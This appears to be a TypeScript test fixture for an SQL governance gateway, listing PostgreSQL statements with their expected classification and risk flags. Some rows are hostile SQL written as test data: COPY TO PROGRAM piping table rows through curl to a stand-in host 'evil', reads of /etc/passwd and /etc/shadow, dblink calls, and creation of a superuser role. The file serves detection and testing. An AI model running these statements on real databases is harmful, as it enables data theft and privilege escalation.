// The SQL classification table (docs/governance/sql.md): statement → expected kind, operation, tables and traps.
import type { Operation, StatementKind, TrapCode } from '../../../src/governance/sql/index.js';

export interface Row {
  readonly sql: string;
  /** Kind of each statement, in order. */
  readonly kinds: readonly StatementKind[];
  readonly op: Operation;
  /** Exact set of tables (order-insensitive). */
  readonly tables: readonly string[];
  /** Exact set of traps (order-insensitive). */
  readonly traps: readonly TrapCode[];
}

function row(sql: string, kinds: StatementKind | readonly StatementKind[], op: Operation, tables: readonly string[] = [], traps: readonly TrapCode[] = []): Row {
  return { sql, kinds: typeof kinds === 'string' ? [kinds] : kinds, op, tables, traps };
}

export const ROWS: readonly Row[] = [
  // Plain reads: joins, subqueries, set operations, views named in FROM, LATERAL, functions in FROM.
  row('SELECT 1', 'select', 'read'),
  row('SELECT * FROM users', 'select', 'read', ['public.users']),
  row('select id, email from users where id = 42', 'select', 'read', ['public.users']),
  row('SELECT * FROM sales.orders o JOIN public.users u ON u.id = o.user_id', 'select', 'read', ['sales.orders', 'public.users']),
  row('SELECT * FROM a LEFT JOIN b ON a.id = b.id RIGHT JOIN c ON c.id = b.id FULL JOIN d USING (id)', 'select', 'read', ['public.a', 'public.b', 'public.c', 'public.d']),
  row('SELECT * FROM a CROSS JOIN b, c', 'select', 'read', ['public.a', 'public.b', 'public.c']),
  row('SELECT * FROM users WHERE id IN (SELECT user_id FROM orders WHERE total > 10)', 'select', 'read', ['public.users', 'public.orders']),
  row('SELECT * FROM users u WHERE EXISTS (SELECT 1 FROM orders o WHERE o.user_id = u.id)', 'select', 'read', ['public.users', 'public.orders']),
  row('SELECT (SELECT count(*) FROM orders) AS n, name FROM users', 'select', 'read', ['public.orders', 'public.users']),
  row('SELECT * FROM (SELECT * FROM (SELECT * FROM deep.t) x) y', 'select', 'read', ['deep.t']),
  row('SELECT a FROM t1 UNION SELECT a FROM t2 INTERSECT SELECT a FROM t3 EXCEPT SELECT a FROM t4', 'select', 'read', ['public.t1', 'public.t2', 'public.t3', 'public.t4']),
  row('SELECT * FROM active_users_view', 'select', 'read', ['public.active_users_view']),
  row('SELECT * FROM users u, LATERAL (SELECT * FROM orders o WHERE o.user_id = u.id LIMIT 3) lo', 'select', 'read', ['public.users', 'public.orders']),
  row('SELECT * FROM generate_series(1, 10) g', 'select', 'read'),
  row('SELECT * FROM unnest(ARRAY(SELECT id FROM users)) AS x(id)', 'select', 'read', ['public.users']),
  row('SELECT * FROM users TABLESAMPLE SYSTEM (10)', 'select', 'read', ['public.users']),
  row('TABLE users', 'select', 'read', ['public.users']),
  row('VALUES (1, 2), (3, 4)', 'select', 'read'),
  row('SELECT * FROM pg_class', 'select', 'read', ['pg_catalog.pg_class']),
  row('SELECT histogram_bounds FROM pg_stats', 'select', 'read', ['pg_catalog.pg_stats'], ['statistics_read']),
  row('SELECT * FROM pg_notes', 'select', 'read', ['pg_catalog.pg_notes', 'public.pg_notes']),
  row('SELECT * FROM information_schema.tables', 'select', 'read', ['information_schema.tables']),
  row('SELECT * FROM mydb.app.users', 'select', 'read', ['app.users']),
  row('SELECT * FROM "Mixed Case"', 'select', 'read', ['public.Mixed Case']),
  row('SELECT count(*), lower(email), coalesce(name, \'x\') FROM users GROUP BY 2, 3', 'select', 'read', ['public.users']),
  row('SELECT currval(\'users_id_seq\'), now(), pg_backend_pid()', 'select', 'read'),
  row('SELECT * FROM users ORDER BY id LIMIT 10 OFFSET 20', 'select', 'read', ['public.users']),
  row('SELECT DISTINCT ON (a) a, b FROM t WINDOW w AS (PARTITION BY a)', 'select', 'read', ['public.t']),
  row('SELECT xmltable.* FROM docs, XMLTABLE(\'/r\' PASSING docs.body COLUMNS id int PATH \'@id\')', 'select', 'read', ['public.docs']),

  // CTEs: CTE names are not tables, but a CTE that names itself without RECURSIVE reads the table.
  row('WITH recent AS (SELECT * FROM orders) SELECT * FROM recent', 'select', 'read', ['public.orders']),
  row('WITH users AS (SELECT * FROM users WHERE active) SELECT * FROM users', 'select', 'read', ['public.users']),
  row('WITH a AS (SELECT * FROM t1), b AS (SELECT * FROM a JOIN t2 USING (id)) SELECT * FROM b', 'select', 'read', ['public.t1', 'public.t2']),
  row('WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r', 'select', 'read'),
  row('WITH x AS (SELECT 1) SELECT * FROM public.x', 'select', 'read', ['public.x']),
  row('SELECT * FROM (WITH inner_cte AS (SELECT * FROM t) SELECT * FROM inner_cte) s, inner_cte', 'select', 'read', ['public.t', 'public.inner_cte']),

  // Writes.
  row('INSERT INTO users (email) VALUES (\'a@b.c\')', 'insert', 'write', ['public.users']),
  row('INSERT INTO archive.users SELECT * FROM public.users WHERE deleted', 'insert', 'write', ['archive.users', 'public.users']),
  row('INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET b = excluded.b', 'insert', 'write', ['public.t']),
  row('INSERT INTO t DEFAULT VALUES RETURNING id', 'insert', 'write', ['public.t']),
  row('UPDATE users SET email = \'x\' WHERE id = 1', 'update', 'write', ['public.users']),
  row('UPDATE users u SET org = o.name FROM orgs o WHERE o.id = u.org_id', 'update', 'write', ['public.users', 'public.orgs']),
  row('UPDATE t SET a = (SELECT max(a) FROM s)', 'update', 'write', ['public.t', 'public.s'], ['unbounded_write']),
  // Every row changes without a WHERE clause: the risk classifier raises these to high risk.
  row('DELETE FROM audit_log', 'delete', 'write', ['public.audit_log'], ['unbounded_write']),
  row('DELETE FROM audit_log WHERE ts < now()', 'delete', 'write', ['public.audit_log']),
  row('UPDATE accounts SET frozen = true', 'update', 'write', ['public.accounts'], ['unbounded_write']),
  row('UPDATE accounts SET frozen = true WHERE id = 7', 'update', 'write', ['public.accounts']),
  row('DELETE FROM users WHERE id = 1', 'delete', 'write', ['public.users']),
  row('DELETE FROM orders o USING users u WHERE o.user_id = u.id AND u.banned', 'delete', 'write', ['public.orders', 'public.users']),
  row('MERGE INTO stock s USING deliveries d ON s.item = d.item WHEN MATCHED THEN UPDATE SET qty = s.qty + d.qty WHEN NOT MATCHED THEN INSERT (item, qty) VALUES (d.item, d.qty)', 'merge', 'write', ['public.stock', 'public.deliveries']),
  row('WITH src AS (SELECT * FROM staging) INSERT INTO t SELECT * FROM src', 'insert', 'write', ['public.t', 'public.staging']),
  row('WITH t AS (SELECT 1) INSERT INTO t VALUES (1)', 'insert', 'write', ['public.t']),

  // Trap: writable CTEs.
  row('WITH d AS (DELETE FROM users WHERE id = 1 RETURNING *) SELECT * FROM d', 'select', 'write', ['public.users'], ['writable_cte']),
  row('WITH i AS (INSERT INTO log (msg) VALUES (\'x\') RETURNING id) SELECT id FROM i', 'select', 'write', ['public.log'], ['writable_cte']),
  row('WITH u AS (UPDATE accounts SET balance = 0 RETURNING *) SELECT count(*) FROM u', 'select', 'write', ['public.accounts'], ['writable_cte']),
  row('WITH m AS (MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE RETURNING t.*) SELECT * FROM m', 'select', 'write', ['public.t', 'public.s'], ['writable_cte']),
  row('WITH d AS (DELETE FROM a RETURNING *) INSERT INTO b SELECT * FROM d', 'insert', 'write', ['public.a', 'public.b'], ['writable_cte']),

  // Trap: locking reads.
  row('SELECT * FROM jobs WHERE state = \'ready\' FOR UPDATE SKIP LOCKED', 'select', 'write', ['public.jobs'], ['locking_read']),
  row('SELECT * FROM accounts FOR SHARE', 'select', 'write', ['public.accounts'], ['locking_read']),
  row('SELECT * FROM a JOIN b ON a.id = b.id FOR NO KEY UPDATE OF a', 'select', 'write', ['public.a', 'public.b'], ['locking_read']),
  row('SELECT * FROM t FOR KEY SHARE NOWAIT', 'select', 'write', ['public.t'], ['locking_read']),
  row('SELECT * FROM users WHERE id IN (SELECT id FROM users FOR UPDATE)', 'select', 'write', ['public.users'], ['locking_read']),

  // Trap: SELECT INTO creates a table.
  row('SELECT * INTO backup_users FROM users', 'select', 'ddl', ['public.backup_users', 'public.users'], ['select_into']),
  row('SELECT id INTO TEMP t2 FROM t1', 'select', 'ddl', ['public.t2', 'public.t1'], ['select_into']),

  // Trap: side-effecting functions anywhere in the tree.
  row('SELECT nextval(\'orders_id_seq\')', 'select', 'write', [], ['side_effect_function']),
  row('SELECT setval(\'s\', 1)', 'select', 'write', [], ['side_effect_function']),
  row('SELECT pg_sleep(10)', 'select', 'write', [], ['side_effect_function']),
  row('SELECT pg_catalog.pg_sleep_for(\'1 minute\')', 'select', 'write', [], ['side_effect_function']),
  row('SELECT * FROM users WHERE id = 1 AND pg_advisory_lock(42) IS NOT NULL', 'select', 'write', ['public.users'], ['side_effect_function']),
  row('SELECT txid_current()', 'select', 'write', [], ['side_effect_function']),
  row('SELECT pg_notify(\'chan\', \'hi\')', 'select', 'write', [], ['side_effect_function']),
  row('SELECT * FROM users WHERE id = (SELECT nextval(\'s\'))', 'select', 'write', ['public.users'], ['side_effect_function']),
  row('INSERT INTO t (id) VALUES (nextval(\'t_id_seq\'))', 'insert', 'write', ['public.t'], ['side_effect_function']),
  row('SELECT pg_terminate_backend(pid) FROM pg_stat_activity', 'select', 'admin', ['pg_catalog.pg_stat_activity'], ['side_effect_function']),
  row('SELECT pg_cancel_backend(123)', 'select', 'admin', [], ['side_effect_function']),
  row('SELECT pg_read_file(\'/etc/passwd\')', 'select', 'admin', [], ['side_effect_function']),
  row('SELECT pg_read_binary_file(\'x\')', 'select', 'admin', [], ['side_effect_function']),
  row('SELECT * FROM pg_ls_dir(\'.\')', 'select', 'admin', [], ['side_effect_function']),
  row('SELECT set_config(\'role\', \'admin\', false)', 'select', 'admin', [], ['side_effect_function', 'role_change']),
  row("SELECT set_config('search_path', 'evil, public', false)", 'select', 'read', [], ['search_path_set']),
  row("SELECT set_config('search_path', 'evil', false) WHERE false", 'select', 'admin', [], ['side_effect_function', 'search_path_change']),
  row("SELECT lower(set_config('search_path', 'evil', true))", 'select', 'admin', [], ['side_effect_function', 'search_path_change']),
  row('SELECT set_config(name, setting, false) FROM pg_settings', 'select', 'admin', ['pg_catalog.pg_settings'], ['side_effect_function', 'role_change', 'search_path_change', 'encoding_change', 'string_syntax_change']),
  row('SELECT * FROM dblink(\'host=evil\', \'select 1\') AS t(a int)', 'select', 'admin', [], ['side_effect_function']),
  row('SELECT dblink_exec(\'drop table x\')', 'select', 'admin', [], ['side_effect_function']),
  row('SELECT lo_import(\'/etc/shadow\')', 'select', 'admin', [], ['side_effect_function']),
  row('SELECT pg_reload_conf()', 'select', 'admin', [], ['side_effect_function']),
  row('SELECT query_to_xml(\'select * from secrets\', true, true, \'\')', 'select', 'admin', [], ['dynamic_sql']),
  row('SELECT nextval(\'s\'), pg_terminate_backend(1)', 'select', 'admin', [], ['side_effect_function']),

  // Traps: COPY.
  row('COPY users TO STDOUT', 'copy', 'read', ['public.users']),
  row('COPY (SELECT id, email FROM users) TO STDOUT WITH CSV', 'copy', 'read', ['public.users']),
  row('COPY users FROM STDIN', 'copy', 'write', ['public.users'], ['copy_from']),
  row('COPY users TO PROGRAM \'curl -d @- http://evil\'', 'copy', 'admin', ['public.users'], ['copy_program']),
  row('COPY users FROM PROGRAM \'cat /etc/passwd\'', 'copy', 'admin', ['public.users'], ['copy_from', 'copy_program']),
  row('COPY users TO \'/tmp/users.csv\'', 'copy', 'admin', ['public.users'], ['copy_file']),
  row('COPY (DELETE FROM t RETURNING *) TO STDOUT', 'copy', 'write', ['public.t'], ['unbounded_write']),

  // Traps: DO, CALL, EXPLAIN.
  row('DO $$ BEGIN DELETE FROM users; END $$', 'do', 'admin', [], ['do_block']),
  row('CALL refresh_totals(1)', 'call', 'write', [], ['call_procedure']),
  row('EXPLAIN SELECT * FROM users', 'explain', 'read', ['public.users']),
  row('EXPLAIN DELETE FROM users', 'explain', 'read', ['public.users']),
  row('EXPLAIN SELECT pg_sleep(100)', 'explain', 'read'),
  row('EXPLAIN ANALYZE SELECT * FROM users', 'explain', 'read', ['public.users']),
  row('EXPLAIN ANALYZE DELETE FROM users', 'explain', 'write', ['public.users'], ['explain_analyze_write', 'unbounded_write']),
  row('EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1', 'explain', 'write', ['public.t'], ['explain_analyze_write', 'unbounded_write']),
  row('EXPLAIN (ANALYZE false) DELETE FROM t', 'explain', 'read', ['public.t']),
  row('EXPLAIN (ANALYZE on) INSERT INTO t VALUES (1)', 'explain', 'write', ['public.t'], ['explain_analyze_write']),
  row('EXPLAIN ANALYZE SELECT nextval(\'s\')', 'explain', 'write', [], ['side_effect_function', 'explain_analyze_write']),
  row('EXPLAIN ANALYZE WITH d AS (DELETE FROM t RETURNING 1) SELECT * FROM d', 'explain', 'write', ['public.t'], ['writable_cte', 'explain_analyze_write']),

  // Traps: role, search_path and other settings.
  row('SET ROLE admin', 'set', 'admin', [], ['role_change']),
  row('SET LOCAL ROLE admin', 'set', 'admin', [], ['role_change']),
  row('RESET ROLE', 'reset', 'read', [], ['session_reset']),
  row('SET ROLE NONE', 'set', 'read', [], ['session_reset']),
  row('SET ROLE "NONE"', 'set', 'admin', [], ['role_change']),
  row('SET SESSION AUTHORIZATION DEFAULT', 'set', 'read', [], ['session_reset']),
  row('SET SESSION AUTHORIZATION postgres', 'set', 'admin', [], ['role_change']),
  row('RESET SESSION AUTHORIZATION', 'reset', 'read', [], ['session_reset']),
  row('SET search_path TO evil, public', 'set', 'read', [], ['search_path_set']),
  row('SET SCHEMA \'evil\'', 'set', 'read', [], ['search_path_set']),
  row('SET search_path = 1', 'set', 'read', [], ['search_path_change']),
  row('RESET search_path', 'reset', 'read'),
  row('SET search_path TO DEFAULT', 'set', 'read'),
  row('SET LOCAL search_path = public', 'set', 'read'),
  row("SET search_path = 'Public'", 'set', 'read', [], ['search_path_set']),
  // The gateway reads SQL as UTF8: another client encoding would have PostgreSQL read the same bytes differently.
  row("SET client_encoding TO 'BIG5'", 'set', 'admin', [], ['encoding_change']),
  row("SET NAMES 'GBK'", 'set', 'admin', [], ['encoding_change']),
  row('RESET client_encoding', 'reset', 'admin', [], ['encoding_change']),
  row("SET client_encoding = 'utf-8'", 'set', 'read', [], []),
  row("SELECT set_config('client_encoding', 'SJIS', false)", 'select', 'admin', [], ['side_effect_function', 'encoding_change']),
  row("SELECT set_config('application_name', 'x', false)", 'select', 'admin', [], ['side_effect_function']),
  // Off, PostgreSQL reads 'a\'' as the literal a' where the gateway's parser reads '' continuing the literal.
  row('SET standard_conforming_strings = off', 'set', 'admin', [], ['string_syntax_change']),
  row('SET standard_conforming_strings TO on', 'set', 'read', [], []),
  row('RESET standard_conforming_strings', 'reset', 'admin', [], ['string_syntax_change']),
  row("SELECT set_config('standard_conforming_strings', 'off', true)", 'select', 'admin', [], ['side_effect_function', 'string_syntax_change']),
  row('RESET ALL', 'reset', 'read', [], ['session_reset']),
  row('SET statement_timeout = 0', 'set', 'admin', [], ['guarded_setting']),
  row('SET session_replication_role = replica', 'set', 'admin', [], ['guarded_setting']),
  row('SET default_transaction_read_only = off', 'set', 'admin', [], ['guarded_setting']),
  row('SET app.tenant_id = \'42\'', 'set', 'admin', [], ['guarded_setting']),
  row('SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE', 'set', 'admin', [], ['guarded_setting']),
  row('SET TRANSACTION READ WRITE', 'set', 'write', [], ['read_write_transaction']),
  row('SET TRANSACTION ISOLATION LEVEL SERIALIZABLE', 'set', 'read'),
  row('SET TRANSACTION READ ONLY', 'set', 'read'),
  row('SET work_mem = \'64MB\'', 'set', 'read'),
  row('SET TIME ZONE \'UTC\'', 'set', 'read'),
  row('SHOW search_path', 'show', 'read'),
  row('SHOW ALL', 'show', 'read'),

  // Transaction control.
  row('BEGIN', 'transaction', 'read', [], ['transaction_control']),
  row('START TRANSACTION ISOLATION LEVEL REPEATABLE READ', 'transaction', 'read', [], ['transaction_control']),
  row('BEGIN READ ONLY', 'transaction', 'read', [], ['transaction_control']),
  row('BEGIN READ WRITE', 'transaction', 'write', [], ['transaction_control', 'read_write_transaction']),
  row('COMMIT', 'transaction', 'read', [], ['transaction_control']),
  row('ROLLBACK', 'transaction', 'read', [], ['transaction_control']),
  row('SAVEPOINT s1', 'transaction', 'read', [], ['transaction_control']),
  row('RELEASE SAVEPOINT s1', 'transaction', 'read', [], ['transaction_control']),
  row('ROLLBACK TO SAVEPOINT s1', 'transaction', 'read', [], ['transaction_control']),
  row('PREPARE TRANSACTION \'tx1\'', 'transaction', 'admin', [], ['transaction_control', 'two_phase_commit']),
  row('COMMIT PREPARED \'tx1\'', 'transaction', 'admin', [], ['transaction_control', 'two_phase_commit']),
  row('SET CONSTRAINTS ALL DEFERRED', 'set_constraints', 'read'),

  // LISTEN / NOTIFY.
  row('LISTEN orders_changed', 'listen', 'read'),
  row('UNLISTEN *', 'unlisten', 'read'),
  row('NOTIFY orders_changed, \'42\'', 'notify', 'write', [], ['notify']),

  // Maintenance.
  row('VACUUM users', 'vacuum', 'admin', ['public.users'], ['maintenance']),
  row('VACUUM (FULL, ANALYZE) app.events', 'vacuum', 'admin', ['app.events'], ['maintenance']),
  row('ANALYZE users', 'analyze', 'admin', ['public.users'], ['maintenance']),
  row('CLUSTER users USING users_pkey', 'cluster', 'admin', ['public.users'], ['maintenance']),
  row('REINDEX TABLE users', 'reindex', 'admin', ['public.users'], ['maintenance']),
  row('CHECKPOINT', 'checkpoint', 'admin', [], ['maintenance']),

  // Privileges and the system.
  row('GRANT SELECT ON users TO agent', 'grant', 'admin', ['public.users'], ['privilege_change']),
  row('REVOKE ALL ON users FROM PUBLIC', 'revoke', 'admin', ['public.users'], ['privilege_change']),
  row('GRANT admin TO agent', 'grant_role', 'admin', [], ['privilege_change']),
  row('CREATE ROLE intruder LOGIN SUPERUSER', 'create_role', 'admin', [], ['privilege_change']),
  row('ALTER ROLE agent WITH SUPERUSER', 'alter_role', 'admin', [], ['privilege_change']),
  // Role and database defaults that later sessions would start with, outside the gateway's view of them.
  row('ALTER ROLE agent SET search_path = secret', 'alter_role', 'admin', [], ['privilege_change', 'session_default_change']),
  row('alter role current_user in database app set "search_path" to secret, public', 'alter_role', 'admin', [], ['privilege_change', 'session_default_change']),
  row('ALTER ROLE ALL SET role = other', 'alter_role', 'admin', [], ['privilege_change', 'session_default_change']),
  row('ALTER ROLE agent RESET ALL', 'alter_role', 'admin', [], ['privilege_change', 'session_default_change']),
  row('ALTER DATABASE app SET search_path FROM CURRENT', 'database', 'admin', [], ['system_change', 'session_default_change']),
  row('ALTER DATABASE app SET client_encoding = SQL_ASCII', 'database', 'admin', [], ['system_change', 'session_default_change']),
  row("ALTER DATABASE app SET default_transaction_read_only = off", 'database', 'admin', [], ['system_change', 'session_default_change']),
  row('ALTER ROLE agent SET work_mem = 65536', 'alter_role', 'admin', [], ['privilege_change']),
  row('DROP ROLE agent', 'drop_role', 'admin', [], ['privilege_change']),
  row('ALTER TABLE users OWNER TO agent', 'alter_table', 'admin', ['public.users'], ['privilege_change']),
  row('ALTER TABLE users DISABLE ROW LEVEL SECURITY', 'alter_table', 'admin', ['public.users'], ['privilege_change']),
  row('ALTER FUNCTION f() OWNER TO agent', 'alter_owner', 'admin', [], ['privilege_change']),
  row('ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO agent', 'alter_default_privileges', 'admin', [], ['privilege_change']),
  row('CREATE POLICY p ON users USING (true)', 'create_policy', 'admin', ['public.users'], ['privilege_change']),
  row('ALTER SYSTEM SET log_statement = \'none\'', 'alter_system', 'admin', [], ['system_change']),
  row('CREATE EXTENSION dblink', 'extension', 'admin', [], ['system_change']),
  row('DROP EXTENSION pgcrypto', 'drop', 'admin', [], ['system_change']),
  row('CREATE DATABASE other', 'database', 'admin', [], ['system_change']),
  row('DROP DATABASE prod', 'database', 'admin', [], ['system_change']),
  row('LOAD \'auto_explain\'', 'load', 'admin', [], ['system_change']),

  // PREPARE / EXECUTE / cursors.
  row('PREPARE q(int) AS SELECT * FROM users WHERE id = $1', 'prepare', 'read', ['public.users']),
  row('PREPARE d(int) AS DELETE FROM users WHERE id = $1', 'prepare', 'write', ['public.users']),
  row('EXECUTE q(1)', 'execute', 'write', [], ['execute_prepared']),
  row('DEALLOCATE q', 'deallocate', 'read'),
  row('DECLARE c CURSOR FOR SELECT * FROM users', 'declare_cursor', 'read', ['public.users']),
  row('DECLARE c CURSOR FOR SELECT * FROM users FOR UPDATE', 'declare_cursor', 'write', ['public.users'], ['locking_read']),
  row('FETCH 10 FROM c', 'fetch', 'read'),
  row('CLOSE c', 'close_cursor', 'read'),

  // LOCK, TRUNCATE, DISCARD.
  row('LOCK TABLE accounts IN ACCESS EXCLUSIVE MODE', 'lock', 'write', ['public.accounts'], ['lock_table']),
  row('TRUNCATE users', 'truncate', 'ddl', ['public.users'], ['truncate']),
  row('TRUNCATE a, app.b RESTART IDENTITY CASCADE', 'truncate', 'ddl', ['public.a', 'app.b'], ['truncate']),
  row('DISCARD ALL', 'discard', 'read', [], ['session_reset']),
  row('DISCARD PLANS', 'discard', 'read'),

  // DDL.
  row('CREATE TABLE t (id int PRIMARY KEY, email text)', 'create_table', 'ddl', ['public.t']),
  row('CREATE TEMP TABLE scratch (x int)', 'create_table', 'ddl', ['public.scratch']),
  row('CREATE TABLE app.child (LIKE app.parent) INHERITS (app.base)', 'create_table', 'ddl', ['app.child', 'app.parent', 'app.base']),
  row('CREATE TABLE t (id bigint DEFAULT nextval(\'s\'))', 'create_table', 'ddl', ['public.t'], ['side_effect_function']),
  row('CREATE TABLE copy AS SELECT * FROM users', 'create_table_as', 'ddl', ['public.copy', 'public.users']),
  row('CREATE MATERIALIZED VIEW mv AS SELECT count(*) FROM orders', 'create_materialized_view', 'ddl', ['public.mv', 'public.orders']),
  row('CREATE TABLE leak AS SELECT pg_read_file(\'/etc/passwd\')', 'create_table_as', 'admin', ['public.leak'], ['side_effect_function']),
  row('CREATE VIEW v AS SELECT id FROM users', 'create_view', 'ddl', ['public.v', 'public.users']),
  row('CREATE INDEX CONCURRENTLY i ON users (email)', 'create_index', 'ddl', ['public.users']),
  row('ALTER TABLE users ADD COLUMN age int', 'alter_table', 'ddl', ['public.users']),
  row('ALTER TABLE users RENAME TO customers', 'rename', 'ddl', ['public.users']),
  row('DROP TABLE users', 'drop', 'ddl', ['public.users']),
  row('DROP TABLE IF EXISTS app.a, b CASCADE', 'drop', 'ddl', ['app.a', 'public.b']),
  row('DROP VIEW v', 'drop', 'ddl', ['public.v']),
  row('DROP INDEX i', 'drop', 'ddl'),
  row('CREATE SCHEMA app', 'create_schema', 'ddl'),
  row('CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$', 'create_function', 'ddl'),
  row('CREATE TRIGGER trg AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()', 'create_trigger', 'ddl', ['public.t']),
  row('CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u', 'create_rule', 'ddl', ['public.t', 'public.u']),
  row('CREATE TYPE mood AS ENUM (\'sad\', \'ok\')', 'create_type', 'ddl'),
  row('CREATE SEQUENCE s', 'create_sequence', 'ddl', ['public.s']),
  row('COMMENT ON TABLE users IS \'people\'', 'comment', 'ddl'),
  row('REFRESH MATERIALIZED VIEW mv', 'refresh_materialized_view', 'ddl', ['public.mv']),

  // Multi-statement strings.
  row('SELECT 1; SELECT 2', ['select', 'select'], 'read', [], ['multi_statement']),
  row('SELECT * FROM users; DROP TABLE users', ['select', 'drop'], 'ddl', ['public.users'], ['multi_statement']),
  row('BEGIN; UPDATE a SET x = 1; COMMIT', ['transaction', 'update', 'transaction'], 'write', ['public.a'], ['multi_statement', 'transaction_control', 'unbounded_write']),
  row('SELECT 1; SET ROLE postgres', ['select', 'set'], 'admin', [], ['multi_statement', 'role_change']),
  row('select 1;; ;select 2;', ['select', 'select'], 'read', [], ['multi_statement']),
];
